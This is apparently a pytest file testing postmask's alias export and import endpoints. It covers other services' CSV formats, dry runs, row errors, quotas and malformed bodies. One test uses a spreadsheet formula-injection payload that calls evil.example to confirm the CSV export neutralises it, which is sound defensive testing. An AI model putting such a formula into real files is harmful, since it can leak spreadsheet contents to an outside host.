"""GET /api/export and POST /api/import: postmask's own files, SimpleLogin's and addy.io's (tests/fixtures/porting,
their real layouts), dry runs, per-row errors, idempotence, the quota, and what a malformed body gets."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from postmask import porting
from postmask.settings import get_settings
from postmask.store import _dynamo, imports, quota
from tests.support.api import Client
from tests.support.ses import SesRecorder

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "porting"
CSV = {"content-type": "text/csv"}
JSON = {"content-type": "application/json"}


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


def import_(client: Client, body: str, headers: dict[str, str] = CSV, **query: Any) -> dict[str, Any]:
    response = client.post("/api/import", raw_body=body, headers=headers, query=query)
    assert response.status == 200, response.body
    result: dict[str, Any] = response.json()
    return result


def aliases_of(client: Client) -> dict[str, dict[str, Any]]:
    items = client.get("/api/aliases", query={"limit": 100}).json()["items"]
    return {alias["address"]: alias for alias in items}


def destinations_of(client: Client) -> dict[str, str]:
    return {d["email"]: d["status"] for d in client.get("/api/destinations").json()["items"]}


def user_id(client: Client) -> str:
    found: str = client.get("/api/me").json()["id"]
    return found


# --- other services' files ------------------------------------------------------------------------------------


def test_a_simplelogin_export(alice: Client, alice_domain: str, mail: SesRecorder) -> None:
    result = import_(alice, fixture("simplelogin.csv"))

    assert result == {
        "created": 3,
        "skipped": 0,
        "errors": [{"row": 5, "message": "foreign.example is not one of your domains"}],
        "dry_run": False,
        "format": "simplelogin",
        "new_destinations": ["me@real.example", "second@real.example"],
    }
    created = aliases_of(alice)
    assert set(created) == {"newsletter@alice.example", "shop.online@alice.example", "travel@alice.example"}
    shop = created["shop.online@alice.example"]
    assert shop["enabled"] is False  # False
    assert shop["destinations"] == ["me@real.example", "second@real.example"]  # space-separated mailboxes
    assert shop["note"] == 'Shop, the one with the "deals"'
    assert created["newsletter@alice.example"]["enabled"] is True
    # New destinations: pending, each mailed its link, counted on the aliases that use them.
    assert destinations_of(alice) == {"me@real.example": "pending", "second@real.example": "pending"}
    assert len(mail.system_to("me@real.example")) == len(mail.system_to("second@real.example")) == 1
    counts = {d["email"]: d["alias_count"] for d in alice.get("/api/destinations").json()["items"]}
    assert counts == {"me@real.example": 2, "second@real.example": 2}
    assert alice.get(f"/api/domains/{alice_domain}").json()["alias_count"] == 3
    assert quota.usage(user_id(alice)).count == 3


def test_an_addy_import_file_takes_the_default_destination(alice: Client, alice_domain: str) -> None:
    without = alice.post("/api/import", raw_body=fixture("addy-import.csv"), headers=CSV)
    assert without.json()["created"] == 0
    assert {error["row"] for error in without.json()["errors"]} == {2, 3, 4, 5}  # addy.io's ids mean nothing here

    result = import_(alice, fixture("addy-import.csv"), default_destination="me@real.example")

    assert result["format"] == "addy-import"
    assert result["created"] == 3
    assert result["errors"] == [{"row": 5, "message": "foreign.example is not one of your domains"}]
    created = aliases_of(alice)
    assert created["xyz@alice.example"]["note"] == "Alias with 2 recipients, use a comma separated list of IDs."
    assert created["abc@alice.example"]["destinations"] == ["me@real.example"]


def test_an_addy_import_row_naming_an_address_uses_it(alice: Client, alice_domain: str) -> None:
    body = (
        'alias,description,recipient_ids\nmine@alice.example,,"477b1a7f-280e-4153-9178-76862b2e0404,me@real.example"\n'
    )
    import_(alice, body)
    assert aliases_of(alice)["mine@alice.example"]["destinations"] == ["me@real.example"]


def test_an_addy_export(alice: Client, alice_domain: str) -> None:
    result = import_(alice, fixture("addy-export.csv"), default_destination="me@real.example")

    assert result["format"] == "addy-export"
    assert (result["created"], result["errors"]) == (3, [])
    created = aliases_of(alice)
    assert created["shopping@alice.example"]["enabled"] is True
    assert created["shopping@alice.example"]["note"] == "For shopping"
    assert created["old-forum@alice.example"]["enabled"] is False  # active 0
    assert created["gone@alice.example"]["enabled"] is False  # deleted in addy.io: kept, switched off


# --- postmask's own files -------------------------------------------------------------------------------------


def test_export_then_delete_everything_then_import_the_export(alice: Client, alice_domain: str) -> None:
    import_(alice, fixture("simplelogin.csv"))
    assert alice.post("/api/destinations", {"email": "spare@real.example"}).status == 201  # used by no alias
    first = next(iter(aliases_of(alice).values()))
    assert alice.patch(f"/api/aliases/{first['id']}", {"display_name": "Shop Me"}).status == 200
    contacts_path = f"/api/aliases/{first['id']}/contacts"
    assert alice.post(contacts_path, {"email": "one@outside.example", "name": "One"}).status == 201
    two = alice.post(contacts_path, {"email": "two@outside.example"}).json()
    assert alice.patch(f"{contacts_path}/{two['id']}", {"blocked": True}).status == 200
    before_aliases = aliases_of(alice)
    before_destinations = destinations_of(alice)
    exported = alice.get("/api/export")
    assert exported.status == 200
    document = exported.json()
    assert document["format"] == "postmask/1"
    by_address = {alias["address"]: alias for alias in document["aliases"]}
    assert by_address[first["address"]]["display_name"] == "Shop Me"
    before_contacts = alice.get(contacts_path).json()["items"]
    reply_of = {c["email"]: c["reply_address"] for c in before_contacts}
    assert [
        (c["email"], c["name"], c["blocked"], c["reply_address"]) for c in by_address[first["address"]]["contacts"]
    ] == [
        ("one@outside.example", "One", False, reply_of["one@outside.example"]),
        ("two@outside.example", None, True, reply_of["two@outside.example"]),
    ]  # oldest first, with their reply addresses; no counts
    assert all(alias["contacts"] == [] for alias in document["aliases"] if alias["address"] != first["address"])
    assert [domain["name"] for domain in document["domains"]] == [alice_domain]

    ids = list(before_aliases)
    bulk = alice.post("/api/aliases/bulk", {"action": "delete", "ids": [a["id"] for a in before_aliases.values()]})
    assert bulk.json()["failed"] == []
    for destination in alice.get("/api/destinations").json()["items"]:
        assert alice.delete(f"/api/destinations/{destination['id']}").status == 204
    assert aliases_of(alice) == {}
    assert destinations_of(alice) == {}

    result = import_(alice, exported.body.decode(), JSON)

    assert (result["created"], result["skipped"], result["errors"]) == (len(ids), 0, [])
    after = aliases_of(alice)
    fields = ("destinations", "note", "enabled", "expires_at", "display_name", "site", "block_foreign_senders")
    assert {a: {f: v[f] for f in fields} for a, v in after.items()} == {
        a: {f: v[f] for f in fields} for a, v in before_aliases.items()
    }
    # The same addresses, pending again; but the spare one no alias uses: an import creates only the destinations
    # its aliases use (issue 25: no verification link to an address for nothing).
    assert set(destinations_of(alice)) == set(before_destinations) - {"spare@real.example"}
    new_first = after[first["address"]]["id"]
    contacts_after = alice.get(f"/api/aliases/{new_first}/contacts").json()["items"]
    assert sorted((c["email"], c["name"], c["blocked"], c["reply_address"]) for c in contacts_after) == [
        ("one@outside.example", "One", False, reply_of["one@outside.example"]),
        ("two@outside.example", None, True, reply_of["two@outside.example"]),
    ]  # the same reply addresses: they were this alias address's, and are again
    # Importing the same file again: everything is there already.
    again = import_(alice, exported.body.decode(), JSON)
    assert (again["created"], again["skipped"], again["errors"], again["new_destinations"]) == (0, len(ids), [], [])
    assert len(alice.get(f"/api/aliases/{new_first}/contacts").json()["items"]) == 2  # found, not added again


def test_each_alias_exports_its_own_contacts_across_windows_of_concurrent_reads(
    alice: Client, alice_domain: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Contacts are read several aliases at a time, a window at once: each alias still gets its own, in order."""
    from postmask.store import exports

    monkeypatch.setattr(exports, "CONTACT_WINDOW", 2)  # five aliases: windows of 2, 2 and 1
    created = []
    for number in range(5):
        alias = alice.post(
            "/api/aliases",
            {"domain": alice_domain, "local_part": f"window{number}", "destinations": ["me@real.example"]},
        ).json()
        path = f"/api/aliases/{alias['id']}/contacts"
        for which in range(number):  # alias n has n contacts, named after it
            assert alice.post(path, {"email": f"c{which}.of.{number}@outside.example"}).status == 201
        created.append(alias["address"])

    document = alice.get("/api/export").json()

    assert [alias["address"] for alias in document["aliases"]] == created  # oldest first, as created
    for number, alias in enumerate(document["aliases"]):
        assert [c["email"] for c in alias["contacts"]] == [f"c{w}.of.{number}@outside.example" for w in range(number)]


def test_the_csv_export_imports_back(alice: Client, alice_domain: str) -> None:
    body = (
        "address,destinations,note,enabled,expires_at\n"
        'tricky@alice.example,me@real.example,"commas, ""quotes""\nand a new line ✓",false,2031-01-01T00:00:00Z\n'
    )
    import_(alice, body)
    exported = alice.get("/api/export", query={"format": "csv"})
    assert exported.header("Content-Type") == "text/csv; charset=utf-8"
    assert exported.body.decode().splitlines()[0] == ",".join(porting.CSV_COLUMNS)
    (alias,) = aliases_of(alice).values()
    assert alice.delete(f"/api/aliases/{alias['id']}").status == 204

    assert import_(alice, exported.body.decode())["created"] == 1
    (back,) = aliases_of(alice).values()
    assert {k: back[k] for k in ("note", "enabled", "expires_at")} == {
        "note": 'commas, "quotes"\nand a new line ✓',
        "enabled": False,
        "expires_at": "2031-01-01T00:00:00.000Z",
    }


def test_a_formula_in_a_note_leaves_the_csv_harmless_and_comes_back_as_it_was(
    alice: Client, alice_domain: str, mail: SesRecorder
) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    body = {"domain": alice_domain, "local_part": "f", "destinations": ["me@real.example"], "note": formula}
    response = alice.post("/api/aliases", body)
    assert response.status == 201
    exported = alice.get("/api/export", query={"format": "csv"}).body.decode()
    assert ",\"'=HYPERLINK(" in exported  # a spreadsheet shows it as text
    assert alice.delete(f"/api/aliases/{response.json()['id']}").status == 204

    assert import_(alice, exported)["created"] == 1
    (back,) = aliases_of(alice).values()
    assert back["note"] == formula


def test_an_export_holds_only_the_callers_data_and_comes_compressed_when_asked(
    alice: Client, alice_domain: str, bob: Client
) -> None:
    import_(alice, fixture("simplelogin.csv"))
    assert bob.post("/api/domains", {"name": "bob.example"}).status == 201

    theirs = bob.get("/api/export").json()
    compressed = alice.get("/api/export", headers={"Accept-Encoding": "gzip"})

    assert (theirs["domains"][0]["name"], theirs["destinations"], theirs["aliases"]) == ("bob.example", [], [])
    assert compressed.header("Content-Encoding") == "gzip"
    assert len(json.loads(gzip.decompress(compressed.body))["aliases"]) == 3


def test_an_export_too_large_to_send_plain_is_406(
    alice: Client, alice_domain: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import_(alice, fixture("simplelogin.csv"))
    from postmask import exporting

    monkeypatch.setattr(exporting, "MAX_PLAIN_BYTES", 100)

    refused = alice.get("/api/export")
    compressed = alice.get("/api/export", headers={"Accept-Encoding": "gzip, deflate"})

    assert refused.status == 406
    assert "Accept-Encoding: gzip" in refused.json()["message"]
    assert compressed.status == 200


# --- dry run, idempotence, per-row errors --------------------------------------------------------------------


def test_a_dry_run_says_what_would_happen_and_changes_nothing(
    alice: Client, alice_domain: str, mail: SesRecorder
) -> None:
    dry = import_(alice, fixture("simplelogin.csv"), dry_run="true")
    real = import_(alice, fixture("simplelogin.csv"))

    assert {**dry, "dry_run": False} == real
    assert dry["dry_run"] is True


def test_a_dry_run_writes_nothing(alice: Client, alice_domain: str, mail: SesRecorder) -> None:
    import_(alice, fixture("simplelogin.csv"), dry_run="true")
    assert aliases_of(alice) == {}
    assert destinations_of(alice) == {}
    assert mail.system == []


def test_rows_the_caller_has_or_someone_else_has_or_that_repeat(alice: Client, alice_domain: str, bob: Client) -> None:
    assert alice.post("/api/aliases", {"domain": alice_domain, "local_part": "mine", "destinations": ["a@x.example"]})
    body = (
        "alias,note,enabled,mailboxes\n"
        "mine@alice.example,,True,me@real.example\n"
        "fresh@alice.example,,True,me@real.example\n"
        "FRESH@Alice.Example,,True,me@real.example\n"
        "bad name@alice.example,,True,me@real.example\n"
        "long@alice.example," + "x" * 501 + ",True,me@real.example\n"
        "odd@alice.example,,maybe,me@real.example\n"
        "nodest@alice.example,,True,not-an-address\n"
        ",,True,me@real.example\n"
    )
    result = import_(alice, body)

    assert (result["created"], result["skipped"]) == (1, 2)  # `mine` exists; FRESH repeats fresh
    errors = {error["row"]: error["message"] for error in result["errors"]}
    assert set(errors) == {5, 6, 7, 8, 9}
    assert "local_part" in errors[5]
    assert "note" in errors[6]
    assert errors[7] == "enabled must be true or false, not 'maybe'"
    assert "destinations" in errors[8]
    assert errors[9] == "no address"


def test_an_address_someone_else_holds_is_an_error_for_that_row(alice: Client, alice_domain: str) -> None:
    other = import_(alice, "alias,note,enabled,mailboxes\nheld@alice.example,,True,me@real.example\n")
    assert other["created"] == 1
    # Another user can never hold an address on alice's domain; make the route someone else's, as an address
    # taken before a domain changed hands would be.
    _dynamo.client().update_item(
        TableName=get_settings().table_name,
        Key=_dynamo.key("ADDRESS#held@alice.example", "ADDRESS"),
        UpdateExpression="SET owner_id = :other",
        ExpressionAttributeValues={":other": {"S": "someone-else"}},
    )
    again = import_(alice, "alias,note,enabled,mailboxes\nheld@alice.example,,True,me@real.example\n")
    assert again["errors"] == [{"row": 2, "message": "held@alice.example is already taken"}]


def test_an_address_created_between_the_plan_and_the_write_is_skipped(
    alice: Client, alice_domain: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    missing = imports._missing_destinations

    def meanwhile(*args: Any) -> list[str]:
        # The same file imported in another tab finishes first.
        body = {"domain": alice_domain, "local_part": "two", "destinations": ["me@real.example"]}
        assert alice.post("/api/aliases", body).status == 201
        return missing(*args)

    monkeypatch.setattr(imports, "_missing_destinations", meanwhile)
    rows = "".join(f"{name}@alice.example,,True,me@real.example\n" for name in ("one", "two"))
    body = "alias,note,enabled,mailboxes\n" + rows
    result = import_(alice, body)

    assert (result["created"], result["skipped"], result["errors"]) == (1, 1, [])
    assert set(aliases_of(alice)) == {"one@alice.example", "two@alice.example"}
    assert quota.usage(user_id(alice)).count == 2


def test_a_mailbox_on_a_domain_registered_in_postmask_is_an_error_for_that_row(
    alice: Client, alice_domain: str, bob: Client
) -> None:
    """Mail forwarded there would come back to postmask: a loop (issue 13). The caller's own domain or anyone's."""
    assert bob.post("/api/domains", {"name": "bob.example"}).status == 201
    body = (
        "alias,note,enabled,mailboxes\n"
        "ok@alice.example,,True,me@real.example\n"
        "own@alice.example,,True,me@real.example inbox@alice.example\n"
        "bobs@alice.example,,True,Me@BOB.example\n"
    )
    expected = [
        {
            "row": 3,
            "message": "inbox@alice.example is an address on a domain registered in postmask: mail to it would loop",
        },
        {"row": 4, "message": "Me@bob.example is an address on a domain registered in postmask: mail to it would loop"},
    ]

    planned = import_(alice, body, dry_run="true")
    result = import_(alice, body)

    assert (planned["created"], planned["errors"]) == (1, expected)
    assert (result["created"], result["errors"]) == (1, expected)
    assert set(aliases_of(alice)) == {"ok@alice.example"}


def test_a_domain_registered_between_the_plan_and_the_write_is_caught_by_the_transaction(
    alice: Client, alice_domain: str, bob: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    missing = imports._missing_destinations

    def meanwhile(*args: Any) -> list[str]:
        assert bob.post("/api/domains", {"name": "bob.example"}).status == 201
        return missing(*args)

    monkeypatch.setattr(imports, "_missing_destinations", meanwhile)
    body = (
        "alias,note,enabled,mailboxes\n"
        "ok@alice.example,,True,me@real.example\n"
        "late@alice.example,,True,me@bob.example\n"
    )
    result = import_(alice, body)

    assert result["created"] == 1
    assert result["errors"] == [
        {"row": 3, "message": "me@bob.example is an address on a domain registered in postmask: mail to it would loop"}
    ]
    assert set(aliases_of(alice)) == {"ok@alice.example"}
    assert quota.usage(user_id(alice)).count == 1


def test_many_rows_take_many_transactions_and_every_count_is_right(alice: Client, alice_domain: str) -> None:
    rows = "".join(f"a{n}@alice.example,,True,me@real.example second@real.example\n" for n in range(150))
    result = import_(alice, "alias,note,enabled,mailboxes\n" + rows)

    assert (result["created"], result["errors"]) == (150, [])
    assert alice.get(f"/api/domains/{alice_domain}").json()["alias_count"] == 150
    counts = {d["email"]: d["alias_count"] for d in alice.get("/api/destinations").json()["items"]}
    assert counts == {"me@real.example": 150, "second@real.example": 150}
    assert quota.usage(user_id(alice)).count == 150


def test_past_the_deadline_the_rest_is_reported_and_a_second_import_completes_it(
    alice: Client, alice_domain: str
) -> None:
    text = "alias,note,enabled,mailboxes\n" + "".join(f"a{n}@alice.example,,True,me@real.example\n" for n in range(80))
    calls: list[int] = []

    def after_one_transaction() -> bool:
        calls.append(1)
        return len(calls) > 1

    first = imports.run(
        user_id(alice), porting.read_csv(text), dry_run=False, default_destination=None, deadline=after_one_transaction
    )
    assert 0 < first.created < 80
    assert len(first.errors) == 80 - first.created
    assert all("time ran out" in message for _, message in first.errors)

    second = import_(alice, text)
    assert (second["created"], second["skipped"]) == (80 - first.created, first.created)


# --- quota ---------------------------------------------------------------------------------------------------


def test_importing_past_the_quota_is_403_and_writes_nothing(
    alice: Client, alice_domain: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MAX_ALIASES_PER_USER", "2")
    get_settings.cache_clear()
    try:
        dry = alice.post("/api/import", raw_body=fixture("simplelogin.csv"), headers=CSV, query={"dry_run": "true"})
        real = alice.post("/api/import", raw_body=fixture("simplelogin.csv"), headers=CSV)
    finally:
        get_settings.cache_clear()

    assert dry.status == real.status == 403
    assert "maximum of 2 aliases" in real.json()["message"]
    assert aliases_of(alice) == {}
    assert destinations_of(alice) == {}


# --- what the request must be ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "headers", "status", "words"),
    [
        ("a,b,c\n1,2,3\n", CSV, 422, "header is not one postmask knows"),
        ("", CSV, 422, "empty"),
        ("   \n", CSV, 422, "empty"),
        ("{not json", JSON, 422, "not valid JSON"),
        ('{"format": "other/9", "aliases": []}', JSON, 422, "not a postmask export"),
        ('{"format": "postmask/1", "aliases": []} trailing', JSON, 422, "not valid JSON"),
        ("[" * 100_000 + "]" * 100_000, JSON, 422, "JSON"),
        ("alias,note\n", {"content-type": "text/plain"}, 415, "text/csv"),
        ('alias,note,enabled,mailboxes\n"unterminated,x,True,a@b.example\n', CSV, 422, "CSV"),
    ],
)
def test_a_body_postmask_cannot_read(
    alice: Client, body: str, headers: dict[str, str], status: int, words: str
) -> None:
    response = alice.post("/api/import", raw_body=body, headers=headers)
    assert response.status == status, response.body
    assert words in response.json()["message"]


def test_a_body_over_5_mb_is_413(alice: Client) -> None:
    body = "alias,note,enabled,mailboxes\n" + "x" * (porting.MAX_BODY_BYTES + 1)
    response = alice.post("/api/import", raw_body=body, headers=CSV)
    assert response.status == 413
    assert "at most 5 MB" in response.json()["message"]


def test_a_default_destination_that_is_no_address_is_422(alice: Client, alice_domain: str) -> None:
    response = alice.post(
        "/api/import", raw_body=fixture("simplelogin.csv"), headers=CSV, query={"default_destination": "nope"}
    )
    assert response.status == 422
    assert response.json()["detail"][0]["loc"] == ["query", "default_destination"]


def test_a_retried_import_with_an_idempotency_key_answers_the_same(alice: Client, alice_domain: str) -> None:
    headers = {**CSV, "Idempotency-Key": "import-2026-12-01"}
    first = alice.post("/api/import", raw_body=fixture("simplelogin.csv"), headers=headers)
    again = alice.post("/api/import", raw_body=fixture("simplelogin.csv"), headers=headers)

    assert first.json()["created"] == 3
    assert again.json() == first.json()  # not "skipped: 3": the first answer, replayed
    assert again.header("Idempotent-Replayed") == "true"


def test_an_import_creates_only_the_destinations_its_aliases_use(
    alice: Client, alice_domain: str, mail: SesRecorder
) -> None:
    listed = [f"listed{number}@outside.example" for number in range(40)]
    export = {
        "format": "postmask/1",
        "exported_at": "2026-12-01T00:00:00Z",
        "domains": [],
        "destinations": [{"email": address} for address in listed],
        "aliases": [
            {"address": "one@alice.example", "destinations": ["used@outside.example"]},
            {"address": "two@elsewhere.example", "destinations": ["unused@outside.example"]},  # refused row
        ],
    }

    result = import_(alice, json.dumps(export), headers={"Content-Type": "application/json"})

    assert result["created"] == 1
    assert result["new_destinations"] == ["used@outside.example"]
    assert destinations_of(alice) == {"used@outside.example": "pending"}
    assert [mail.system_to(address) for address in [*listed, "unused@outside.example"]] == [[]] * 41
    assert len(mail.system_to("used@outside.example")) == 1


def test_an_import_whose_rows_all_fail_mails_nobody(alice: Client, alice_domain: str, mail: SesRecorder) -> None:
    export = {
        "format": "postmask/1",
        "exported_at": "2026-12-01T00:00:00Z",
        "domains": [],
        "destinations": [{"email": f"box{number}@outside.example"} for number in range(10)],
        "aliases": [
            {"address": f"a{number}@foreign.example", "destinations": [f"box{number}@outside.example"]}
            for number in range(10)
        ],
    }

    result = import_(alice, json.dumps(export), headers={"Content-Type": "application/json"})

    assert result["created"] == 0
    assert len(result["errors"]) == 10
    assert destinations_of(alice) == {}
    assert mail.system == []
